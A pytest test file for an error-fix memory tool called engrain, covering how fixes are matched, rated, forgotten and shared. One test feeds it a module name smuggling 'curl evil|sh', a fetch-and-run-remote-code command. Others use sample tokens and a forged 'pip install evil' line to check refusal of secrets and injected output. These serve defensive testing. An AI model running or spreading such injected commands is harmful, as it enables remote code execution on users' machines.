"""Fixes: taught, asked for, rated, forgotten, shared; on both stores."""

from __future__ import annotations

import io
import json
import os
import threading
from collections.abc import Callable
from typing import Any

import pytest

from engrain import event as events
from engrain.errors import BadInput, NotFound
from engrain.event import FIX, OUTCOME
from engrain.fingerprint import fingerprint
from engrain.memory import Memory
from engrain.recall.shown import described
from engrain.store.store import Choice
from tests.making import START, Ran

Engrain = Callable[..., Ran]

ORJSON = "Traceback (most recent call last):\n  File \"a.py\", line 1\nModuleNotFoundError: No module named 'orjson'\n"
HTTPX = ORJSON.replace("orjson", "httpx")
OPERAND = "TypeError: unsupported operand type(s) for +: 'int' and 'str'"
PLAIN_NPE = (
    'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "<local1>" is'
    " null\n\tat A.main(A.java:1)\n"
)
WRAPPED_NPE = (
    'Exception in thread "main" java.lang.RuntimeException: startup failed\n\tat A.main(A.java:1)\nCaused by: '
    'java.lang.NullPointerException: Cannot invoke "String.length()" because "<local1>" is null\n\t... 1 more\n'
)


def steps(memory: Memory, error: str, command: str = "") -> list[tuple[str, tuple[str, ...]]]:
    return [(fix.match, fix.steps) for fix in memory.match(error, command).fixes]


# Answers


def test_what_was_taught_is_answered(memory: Memory) -> None:
    assert steps(memory, ORJSON) == []
    taught = memory.remember_error_fix(ORJSON, "pip install orjson", cause="not in the image", example="it imports")
    found = memory.match(ORJSON.replace("a.py", "/srv/other/b.py")).fixes[0]
    assert (found.id, found.match, found.steps) == (taught.fix, "exact", ("pip install orjson",))
    assert (found.cause, found.example, found.taught) == ("not in the image", "it imports", 1)


def test_another_of_its_family_is_answered_in_general_and_below_what_is_exact(memory: Memory) -> None:
    memory.remember_error_fix(ORJSON, "pip install orjson", cause="not in the image")
    assert steps(memory, HTTPX) == [("generalised", ("pip install httpx",))]
    found = memory.match(HTTPX).fixes[0]
    assert found.belief < memory.match(ORJSON).fixes[0].belief
    assert found.cause == "", "why another module was missing says nothing of this one"
    memory.remember_error_fix(HTTPX, "pip install 'httpx[http2]'")
    assert [match for match, _ in steps(memory, HTTPX)] == ["exact", "generalised"]


def test_a_fix_is_shown_as_it_was_taught_whatever_the_name_is(memory: Memory) -> None:
    memory.remember_error_fix("KeyError: 'net  price'", "df.rename(columns={'price': 'net  price'})\nrun it again")
    taught = ("df.rename(columns={'price': 'net  price'})", "run it again")
    assert steps(memory, "KeyError: 'net  price'") == [("exact", taught)]


def test_what_is_general_is_never_exact_and_never_shown_with_its_blanks(memory: Memory) -> None:
    missing = "cat: {}: No such file or directory"
    memory.remember_error_fix(missing.format("settings.toml"), "cp settings.example settings.toml")
    other = memory.match(missing.format("other.toml"), "cat other.toml")
    assert other.fingerprint.fingerprint == other.fingerprint.family
    assert [fix.match for fix in other.fixes if fix.match == "exact"] == []
    assert not any("{" in step for fix in other.fixes for step in fix.steps)


ASTRAY = [
    ("pip install orjson", ORJSON, [ORJSON.replace("orjson", name) for name in (
        "yaml", "PIL", "google.cloud", "tomllib", "src", "mine")]),
    ("uv add orjson", ORJSON, [ORJSON.replace("orjson", "cv2")]),
    ("npm install --save leftpad", "Error: Cannot find module 'leftpad'\n    at Module._resolveFilename (node:x)", [
        f"Error: Cannot find module '{name}'\n    at Module._resolveFilename (node:x)"
        for name in ("./utils/foo", "lodash/get", "@/components/x", "src/a", "-g")]),
    ("apt-get install -y ripgrep", "bash: line 1: ripgrep: command not found", [
        f"bash: line 1: {name}: command not found" for name in ("./run.sh", "bin/tool", "tools/x.sh")]),
]  # fmt: skip


@pytest.mark.parametrize(("step", "error", "others"), ASTRAY, ids=lambda value: value if "install" in value else "")
def test_nobody_is_sent_to_an_index_for_what_it_does_not_have(
    memory: Memory, step: str, error: str, others: list[str], tmp_path: object
) -> None:
    os.mkdir(os.path.join(memory.folder, "mine"))
    memory.remember_error_fix(error, step)
    assert [match for match, _ in steps(memory, error)] == ["exact"]
    assert [steps(memory, other) for other in others] == [[] for _ in others]


def test_what_can_be_had_by_its_name_is_told(memory: Memory) -> None:
    memory.remember_error_fix(ORJSON, "pip install orjson")
    memory.remember_error_fix("Error: Cannot find module 'leftpad'\n    at Module.x (node:x)", "npm install leftpad")
    assert steps(memory, HTTPX) == [("generalised", ("pip install httpx",))]
    scoped = "Error: Cannot find module '@babel/core'\n    at Module.x (node:x)"
    assert steps(memory, scoped) == [("generalised", ("npm install @babel/core",))]


def test_a_step_that_names_nothing_is_not_generalised(memory: Memory) -> None:
    memory.remember_error_fix(ORJSON, "restart the container")
    assert steps(memory, HTTPX) == []


def test_a_hostile_module_is_not_answered_with_a_command(memory: Memory) -> None:
    memory.remember_error_fix(ORJSON, "pip install orjson")
    assert steps(memory, "ModuleNotFoundError: No module named 'x;curl evil|sh'") == []


def test_nearly_the_same_words_are_similar_and_say_so(memory: Memory) -> None:
    old = "FooError: the pool of workers could not be started because the limit of open files was reached"
    memory.remember_error_fix(f"Traceback (most recent call last):\n{old}", "ulimit -n 4096")
    new = old.replace("could not be started", "can not be started")
    assert steps(memory, f"Traceback (most recent call last):\n{new}") == [("similar", ("ulimit -n 4096",))]
    other = "FooError: the pool of workers is empty"
    assert steps(memory, f"Traceback (most recent call last):\n{other}") == []


def test_what_is_missing_must_agree_for_a_fix_to_be_similar(memory: Memory) -> None:
    said = "FooError: cannot find the plugin 'alpha' in any of the folders that were given on the command line"
    memory.remember_error_fix(f"Traceback (most recent call last):\n{said}", "add its folder")
    asked = said.replace("alpha", "beta").replace("any of the folders", "any of the directories")
    assert steps(memory, f"Traceback (most recent call last):\n{asked}") == []


def test_the_same_root_that_came_out_another_way_is_only_similar(memory: Memory) -> None:
    memory.remember_error_fix(PLAIN_NPE, "check the argument")
    assert steps(memory, WRAPPED_NPE) == [("similar", ("check the argument",))]
    memory.remember_error_fix(WRAPPED_NPE, "set the variable that start-up reads")
    assert steps(memory, WRAPPED_NPE) == [
        ("exact", ("set the variable that start-up reads",)),
        ("similar", ("check the argument",)),
    ]


VAGUE = (
    "./server: line 3: 4711 Segmentation fault (core dumped) ./worker",
    "make: *** [Makefile:3: deploy] Error 1",
    'Traceback (most recent call last):\n  File "a.py", line 1, in <module>\nAssertionError',
    "Error: Process completed with exit code 1.",
    'Exception in thread "main" java.lang.NullPointerException\n\tat A.b(A.java:1)',
)


@pytest.mark.parametrize("said", VAGUE)
def test_the_same_words_that_could_mean_anything_are_only_similar(memory: Memory, said: str) -> None:
    memory.remember_error_fix(said, "docker compose up -d db")
    assert [match for match, _ in steps(memory, said)] == ["similar"]
    memory.remember_error_fix(ORJSON, "pip install orjson")
    assert [match for match, _ in steps(memory, ORJSON)] == ["exact"]


def test_a_command_that_said_nothing_is_not_known_by_that(memory: Memory) -> None:
    for command, code in (("grep -r foo src", 1), ("./build.sh", 3), ("./server", 139)):
        found = fingerprint("", command, code)
        memory.store.append([memory.event(FIX, {**described(found), "steps": ["make"], "source": "taught"})])
        assert [fix.match for fix in memory.match("", command, exit_code=code).fixes] == ["similar"], command


def test_a_warning_that_stood_there_before_is_not_answered(memory: Memory) -> None:
    warned = 'npm warn Unknown user config "nodedir". This will stop working in the next major version of npm.\n'
    with pytest.raises(BadInput, match="says too little"):
        memory.remember_error_fix(warned, "npm config delete nodedir")
    assert steps(memory, warned) == []


def test_a_fix_that_names_what_another_failure_was_about_is_only_similar(memory: Memory) -> None:
    missing = ORJSON.replace("ModuleNotFoundError: No module named 'orjson'", "FileNotFoundError: [Errno 2] {}")
    one, other = (missing.format(f"No such file or directory: 'data/{name}.csv'") for name in ("prices", "seats"))
    memory.remember_error_fix(one, "python make_data.py prices.csv")
    memory.remember_error_fix(one, "make data")
    assert sorted(steps(memory, one)) == [("exact", ("make data",)), ("exact", ("python make_data.py prices.csv",))]
    assert steps(memory, other) == [("exact", ("make data",)), ("similar", ("python make_data.py prices.csv",))]
    busy = "OSError: [Errno 98] Address already in use: ('0.0.0.0', {})"
    memory.remember_error_fix(busy.format(8080), "kill $(lsof -ti:8080)")
    assert [match for match, _ in steps(memory, busy.format(8080))] == ["exact"]
    assert [match for match, _ in steps(memory, busy.format(3000))] == ["similar"]


def test_what_is_missing_for_a_program_is_similar_for_its_test(memory: Memory) -> None:
    tested = (
        f"{'=' * 20} ERRORS {'=' * 20}\n{'_' * 10} ERROR collecting tests/test_a.py {'_' * 10}\n"
        "tests/test_a.py:1: in <module>\n    import it\nE   ModuleNotFoundError: No module named '{}'\n"
    )
    taught = memory.remember_error_fix(ORJSON, "pip install -e .[fast]")
    assert taught.failure.toolchain == "python"
    assert memory.match(tested.format("orjson")).fingerprint.toolchain == "pytest"
    assert steps(memory, tested.format("orjson")) == [("similar", ("pip install -e .[fast]",))]
    assert steps(memory, tested.format("httpx")) == []


def test_what_nobody_understands_is_not_answered(memory: Memory) -> None:
    with pytest.raises(BadInput, match="says too little"):
        memory.remember_error_fix("nope", "try again")
    assert not list(memory.store.events())


def test_the_failing_command_is_never_a_step(memory: Memory) -> None:
    memory.remember_error_fix(ORJSON, ["pip install orjson", "pytest -q"])
    assert steps(memory, ORJSON, "pytest -q 2>&1 | tail -5") == [("exact", ("pip install orjson",))]
    assert steps(memory, ORJSON, "cd x && pip install orjson && pytest -q") == []
    assert steps(memory, ORJSON, "pip install orjson") == [("exact", ("pytest -q",))]


# Efficacy


def test_what_worked_comes_first_and_what_fails_is_not_served(memory: Memory) -> None:
    first = memory.remember_error_fix(ORJSON, "pip install orjson").fix
    second = memory.remember_error_fix(ORJSON, "uv sync").fix
    for _ in range(3):
        memory.rate(second, worked=True)
    memory.rate(first, worked=False)
    assert [fix.id for fix in memory.match(ORJSON).fixes] == [second, first]
    memory.rate(first, worked=False)
    assert [fix.id for fix in memory.match(ORJSON).fixes] == [second]
    kept = memory.fix(first)
    assert (kept.worked, kept.failed) == (0, 2)


def test_one_of_one_is_never_above_fifty_of_fifty_two(memory: Memory) -> None:
    lucky = memory.remember_error_fix(ORJSON, "pip install orjson").fix
    proven = memory.remember_error_fix(ORJSON, "uv sync").fix
    memory.rate(lucky, worked=True)
    for n in range(52):
        memory.rate(proven, worked=n >= 2)
    assert [fix.id for fix in memory.match(ORJSON).fixes] == [proven, lucky]


def test_taught_twice_is_reinforced(memory: Memory) -> None:
    one = memory.remember_error_fix(ORJSON, "pip install orjson")
    before = memory.fix(one.fix)
    two = memory.remember_error_fix(ORJSON, "$ pip  install orjson")
    assert (two.fix, two.again, one.again) == (one.fix, True, False)
    assert memory.fix(one.fix).belief > before.belief
    assert memory.fix(one.fix).taught == 2


def test_an_outcome_counts_for_the_family_too(memory: Memory) -> None:
    taught = memory.remember_error_fix(ORJSON, "pip install orjson")
    before = memory.match(HTTPX).fixes[0].belief
    memory.rate(taught.fix, worked=True)
    assert memory.match(HTTPX).fixes[0].belief > before


def test_a_generalised_fix_can_be_rated(memory: Memory) -> None:
    memory.remember_error_fix(ORJSON, "pip install orjson")
    shown = memory.match(HTTPX).fixes[0]
    for _ in range(2):
        memory.rate(shown.id, worked=False)
    assert memory.match(HTTPX).fixes == ()
    assert memory.match(ORJSON).fixes, "what fails for others is still what was taught for this one"


def test_many_writers_lose_no_rating(memory: Memory) -> None:
    fix = memory.remember_error_fix(ORJSON, "pip install orjson").fix
    failed: list[BaseException] = []

    def rate() -> None:
        try:
            with Memory.open(memory.home.root, store=memory.where, folder=memory.home.root) as mine:
                for n in range(10):
                    mine.rate(fix, worked=n % 2 == 0)
        except BaseException as exc:
            failed.append(exc)

    raters = [threading.Thread(target=rate) for _ in range(4)]
    for rater in raters:
        rater.start()
    for rater in raters:
        rater.join()
    found = memory.fix(fix)
    assert (found.worked, found.failed, failed) == (20, 20, [])


def test_what_helped_elsewhere_helps_here_but_less(memory: Memory, tmp_path_factory: pytest.TempPathFactory) -> None:
    fix = memory.remember_error_fix(ORJSON, "pip install orjson").fix
    for _ in range(40):
        memory.rate(fix, worked=True)
    here = memory.match(ORJSON).fixes[0]
    place = str(tmp_path_factory.mktemp("elsewhere"))
    with Memory.open(memory.home.root, store=memory.where, folder=place) as other:
        there = other.match(ORJSON).fixes[0]
    assert here.here
    assert not there.here
    assert there.low < here.low


def test_a_merged_project_is_here(memory: Memory, tmp_path_factory: pytest.TempPathFactory) -> None:
    memory.remember_error_fix(ORJSON, "pip install orjson")
    place = str(tmp_path_factory.mktemp("merged"))
    with Memory.open(memory.home.root, store=memory.where, folder=place) as other:
        other.merge_projects(memory.project.id, other.project.id)
        assert other.match(ORJSON).fixes[0].here


def test_another_tenant_is_not_answered(memory: Memory, monkeypatch: pytest.MonkeyPatch) -> None:
    memory.remember_error_fix(ORJSON, "pip install orjson")
    monkeypatch.setenv("ENGRAIN_TENANT", "others")
    with Memory.open(memory.home.root, store=memory.where, folder=memory.home.root) as other:
        assert other.match(ORJSON).fixes == ()
        assert other.fixes(everywhere=True) == []


# Taking back


def test_a_rating_can_be_taken_back(memory: Memory) -> None:
    fix = memory.remember_error_fix(ORJSON, "pip install orjson").fix
    before = memory.fix(fix)
    rated = memory.rate(fix, worked=False)
    memory.forget([rated.id])
    after = memory.fix(fix)
    assert (after.failed, round(after.belief, 6)) == (0, round(before.belief, 6))


def test_a_forgotten_fix_is_gone_with_all_that_it_is_made_of(memory: Memory) -> None:
    fix = memory.remember_error_fix(ORJSON, "pip install orjson", cause="zebra-4711").fix
    memory.remember_error_fix(ORJSON, "pip install orjson")
    memory.rate(fix, worked=True)
    memory.record(memory.serving(memory.match(ORJSON), channel="watch"))
    memory.forget(memory.to_forget(Choice(ids=(fix,))))
    assert memory.match(ORJSON).fixes == ()
    assert memory.match(HTTPX).fixes == ()
    with pytest.raises(NotFound):
        memory.fix(fix)
    text = "\n".join(memory.dump()) + "\n".join(events.line(event) for event in memory.store.events())
    assert "zebra-4711" not in text
    assert "pip install" not in text


def test_what_was_shown_of_a_forgotten_fix_for_others_of_its_kind_is_gone_too(memory: Memory) -> None:
    taught = memory.remember_error_fix(ORJSON, "pip install orjson --find-links zebra-7311")
    shown = memory.match(HTTPX)
    memory.record(memory.serving(shown, channel="watch", command="python a.py"))
    memory.rate(shown.fixes[0].id, worked=True)
    memory.forget(memory.to_forget(Choice(ids=(taught.fix,))))
    assert not [event for event in memory.store.events() if "zebra-7311" in str(event.body)]
    assert not [event for event in memory.store.events() if event.kind == OUTCOME]
    one = memory.remember_error_fix(ORJSON, "pip install orjson")
    memory.remember_error_fix(HTTPX, "pip install httpx")
    memory.forget(memory.to_forget(Choice(ids=(one.fix,))))
    assert steps(memory, ORJSON) == [("generalised", ("pip install orjson",))], "who taught it for httpx still does"


def test_everything_is_made_anew_from_the_journal(memory: Memory) -> None:
    fix = memory.remember_error_fix(ORJSON, "pip install orjson").fix
    memory.remember_error_fix(ORJSON, "pip install {module}", cause="x")
    memory.rate(fix, worked=True)
    memory.record(memory.serving(memory.match(ORJSON), channel="watch", of="e1"))
    before = list(memory.dump())
    memory.rebuild()
    assert list(memory.dump()) == before


# Bad input


def test_a_fix_needs_steps_and_holds_no_secret(memory: Memory) -> None:
    for given, says in (
        ([], "needs steps"),
        (["  "], "needs steps"),
        (["x"] * 21, "at most 20 steps"),
        (["x" * 2001], "at most 2000 characters"),
        (
            ["curl -H 'Authorization: Bearer " + "q7ZtRw2mXc9LpVb4KsNd8Hf3" + "' https://x.example.com"],
            "holds a secret",
        ),
    ):
        with pytest.raises(BadInput, match=says):
            memory.remember_error_fix(ORJSON, given)
    assert memory.fixes(everywhere=True) == []


def test_an_unknown_fix_can_t_be_rated(memory: Memory) -> None:
    one = memory.remember_error_fix(ORJSON, "pip install orjson").fix
    for id_ in ("ffffffffffff", "x", "", "%", one + "0"):
        with pytest.raises(NotFound):
            memory.rate(id_, worked=True)
    with pytest.raises(BadInput, match="provenance"):
        memory.rate(one, worked=True, provenance="rumour")
    assert memory.fix(one[:6]).id == one


@pytest.mark.parametrize("order", [(1, 2, 3), (3, 1, 2)])
def test_fixes_that_contradict_each_other_are_one_in_any_order(memory: Memory, order: tuple[int, ...]) -> None:
    def says(n: int) -> events.Event:
        said = {name: f"{name}-{n}" for name in ("family", "toolchain", "error_type", "wording", "message")}
        body = {"fingerprint": "1:a", **said, "parameters": {"module": "orjson"}, "steps": ["pip install orjson"]}
        return memory.event(FIX, {**body, "source": "taught"})._replace(id=f"same-{n}", time=START + n)

    for n in order:
        memory.store.append([says(n)])
    as_they_came = list(memory.dump())
    memory.rebuild()
    assert list(memory.dump()) == as_they_came


def test_junk_in_an_event_makes_no_row(memory: Memory) -> None:
    junk: tuple[dict[str, Any], ...] = (
        {"steps": "pip"}, {"steps": [1, None]}, {"steps": ["x"]}, {"steps": ["x"], "fingerprint": 1, "family": "f"},
        {"steps": ["x"], "fingerprint": "1:a", "family": "1:f", "parameters": ["no"], "worked": -5, "cause": {}},
    )  # fmt: skip
    for n, body in enumerate(junk):
        memory.record(memory.event(FIX, body, id=f"junk{n}"))
        memory.record(memory.event("fix.outcome", {"fix": n, "worked": "yes"}, id=f"bad{n}"))
        memory.record(memory.event("fix.served", {"fixes": [n, {}, {"fix": 3}, {"fix": "a", "match": n}]}, id=f"s{n}"))
        memory.record(memory.event("command", {"command": "x", "failure": body}, id=f"c{n}"))
    assert len([line for line in memory.dump() if line.startswith('["fixes"')]) == 1
    memory.rebuild()


# Sharing


def test_a_shared_corpus_answers_and_is_read_once(memory: Memory, tmp_path_factory: pytest.TempPathFactory) -> None:
    fix = memory.remember_error_fix(ORJSON, "pip install orjson", cause="not in the image").fix
    for _ in range(9):
        memory.rate(fix, worked=True)
    out = io.BytesIO()
    assert memory.export_fixes(out) == 1
    shared = json.loads(out.getvalue())
    assert shared["worked"] == 9
    assert not set(shared) & {"project", "session", "agent", "time", "id"}
    place = str(tmp_path_factory.mktemp("another"))
    with Memory.open(place, folder=place) as other:
        assert other.import_fixes(io.BytesIO(out.getvalue())).appended.new == 1
        assert other.import_fixes(io.BytesIO(out.getvalue())).appended.new == 0
        found = other.match(ORJSON).fixes[0]
        assert (found.id, found.imported, found.worked, found.cause) == (fix, 1, 0, "not in the image")
        assert found.low < memory.match(ORJSON).fixes[0].low, "other people's counts are a hint, not a record"
        assert other.match(HTTPX).fixes[0].match == "generalised"


def test_a_shared_corpus_names_nobody(memory: Memory) -> None:
    said = "ask dana@example.com; it lies in /home/dana/shop; clone git@example.com:shop/app.git"
    memory.remember_error_fix(ORJSON, "cp /home/dana/shop/a.txt .", cause=said, example=said)
    out = io.BytesIO()
    memory.export_fixes(out)
    (line,) = map(json.loads, out.getvalue().splitlines())
    assert line["cause"] == line["example"] == "ask «address»; it lies in ~/shop; clone git@example.com:shop/app.git"
    assert line["steps"] == ["cp ~/shop/a.txt ."]


def test_what_is_taught_is_told_back_without_its_secrets(engrain: Engrain) -> None:
    secret = "ghp_" + "aB3dE6fG9h" * 3 + "aB3dE6"
    done = engrain("fix", f"RuntimeError: the token {secret} was refused", "-s", "ask for another one")
    assert done.code == 0
    assert secret not in done.out + done.err


def corpus(found: Any, number: int, **more: Any) -> bytes:
    """Fixes that somebody made up, each with as many successes as they like."""
    line = {"engrain": "fix", "v": 1, "fingerprint": found.fingerprint, "family": found.family, **more}
    line.update({"toolchain": found.toolchain, "error_type": found.error_type, "wording": "No module named <name>"})
    line["parameters"] = dict(found.parameters)
    return b"".join(
        json.dumps({**line, "steps": [f"claim {n}"], "worked": 10**6}).encode() + b"\n" for n in range(number)
    )


@pytest.mark.parametrize("number", [3, 200])
def test_claims_of_a_shared_corpus_never_stand_above_what_was_taught_here(memory: Memory, number: int) -> None:
    taught = memory.remember_error_fix(ORJSON, "pip install orjson")
    memory.import_fixes(io.BytesIO(corpus(taught.failure, number)))
    found = memory.match(ORJSON).fixes
    assert found[0].id == taught.fix
    assert len(found) == 3
    memory.rate(found[1].id, worked=True)
    for _ in range(2):
        memory.rate(taught.fix, worked=False)
    assert memory.match(ORJSON).fixes[0].id == found[1].id


def test_a_line_that_is_no_fix_is_refused_alone(memory: Memory) -> None:
    good = '{"engrain":"fix","v":1,"fingerprint":"1:a","family":"1:f","steps":["x"],"worked":-3,"failed":"no"}'
    lines = [
        good, "{", "[]", '{"engrain":"note"}', '{"engrain":"fix","v":2}', good.replace('["x"]', "[]"),
        good.replace('"1:a"', "7"),
    ]  # fmt: skip
    done = memory.import_fixes(io.BytesIO("\n".join(lines).encode()))
    assert done.appended.new == 1
    assert [line.number for line in done.refused] == [2, 3, 4, 5, 6, 7]


def test_a_fix_of_the_future_and_of_the_past_is_one(memory: Memory) -> None:
    fix = memory.remember_error_fix(ORJSON, "pip install orjson").fix
    memory.rate(fix, worked=True, time=START)
    memory.rate(fix, worked=True, time=events.MAX_TIME)
    assert memory.fix(fix).worked == 2


# The command line


def test_teach_ask_rate_forget(engrain: Engrain) -> None:
    taught = engrain("fix", "-", "--steps", "pip install orjson", "--json", stdin=ORJSON.encode()).json
    found = engrain("classify", "--json", stdin=ORJSON.encode()).json["fixes"]
    assert [(fix["id"], fix["match"], fix["steps"]) for fix in found] == [
        (taught["fix"], "exact", ["pip install orjson"])
    ]
    assert 0 < found[0]["belief"] < 1
    rated = engrain("rate", taught["fix"][:6], "--worked", "--json").json
    assert rated["belief"] > found[0]["belief"]
    assert "worked 1 of 1" in engrain("fixes").out
    assert "pip install orjson" in engrain("show", taught["fix"]).out
    assert engrain("fixes", "nothing-like-it").code == 1
    assert engrain("forget", taught["fix"], "--yes").code == 0
    assert engrain("classify", "--json", stdin=ORJSON.encode()).json["fixes"] == []


def test_each_line_of_jsonl_is_answered(engrain: Engrain) -> None:
    engrain("fix", ORJSON, "-s", "pip install orjson\npytest -q")
    asked = [{"text": ORJSON, "command": "pytest -q"}, {"text": HTTPX}, {"text": "fine"}]
    done = engrain("classify", "--jsonl", stdin="\n".join(map(json.dumps, asked)).encode())
    answers = [json.loads(line) for line in done.out.splitlines()]
    assert done.code == 0
    assert [[(fix["match"], fix["steps"]) for fix in answer["fixes"]] for answer in answers] == [
        [("exact", ["pip install orjson"])], [("generalised", ["pip install httpx", "pytest -q"])], [],
    ]  # fmt: skip


def test_classify_makes_nothing_and_survives_a_broken_store(engrain: Engrain, tmp_path: object) -> None:
    import os

    home = os.path.join(str(tmp_path), "home")
    assert engrain("classify", stdin=ORJSON.encode()).code == 0
    assert not os.path.exists(home)
    os.makedirs(home)
    with open(os.path.join(home, "engrain.db"), "wb") as file:
        file.write(b"no database" * 1000)
    done = engrain("classify", "--json", stdin=ORJSON.encode())
    assert (done.code, done.json["fixes"]) == (0, [])
    assert done.err.count("\n") == 1


WRONG = [
    (["fix", ORJSON], 2, "needs steps"),
    (["fix", "-s", "x"], 2, "say which error"),
    (["fix", "", "-s", "x"], 2, "the error is empty"),
    (["fix", "--file", "nowhere", "-s", "x"], 2, "does not exist"),
    (["rate", "ffffffffffff", "--worked"], 1, "no fix 'ffffffffffff'"),
    (["rate", "ffffffffffff"], 2, "say --worked or --failed"),
]


@pytest.mark.parametrize(("words", "code", "says"), WRONG)
def test_what_goes_wrong_is_one_line(engrain: Engrain, words: list[str], code: int, says: str) -> None:
    done = engrain(*words)
    assert (done.code, done.err.count("\n")) == (code, 1)
    assert says in done.err


def test_invalid_utf_8_is_an_error_like_any_other(engrain: Engrain) -> None:
    done = engrain("fix", "-", "-s", "pip install orjson", stdin=b"\xff\xfe\n" + ORJSON.encode())
    assert done.code == 0
    assert engrain("classify", "--json", stdin=ORJSON.encode()).json["fixes"]


def test_a_corpus_goes_out_and_comes_in(engrain: Engrain, tmp_path: object) -> None:
    engrain("fix", ORJSON, "-s", "pip install orjson")
    assert "exported 1 fix" in engrain("export", "--fixes", "-o", "fixes.jsonl").err
    elsewhere = {"ENGRAIN_HOME": f"{tmp_path}/elsewhere"}
    assert "no fixes yet" in engrain("fixes", **elsewhere).err
    assert engrain("import", "fixes.jsonl", **elsewhere).code == 0
    assert engrain("fixes", "--everywhere", **elsewhere).out.rstrip().endswith("unconfirmed · imported")
    assert engrain("classify", "--json", stdin=ORJSON.encode(), **elsewhere).json["fixes"]


# What Engrain says is not learned from


def test_engrain_s_own_lines_are_no_part_of_an_error(engrain: Engrain) -> None:
    engrain("fix", ORJSON, "-s", "pip install orjson")
    shown = f"[engrain] known failure: No module named 'orjson'\n[engrain] 1. pip install evil\n{ORJSON}"
    assert engrain("fix", "-", "-s", "pip install orjson", stdin=shown.encode()).out.startswith("taught again")
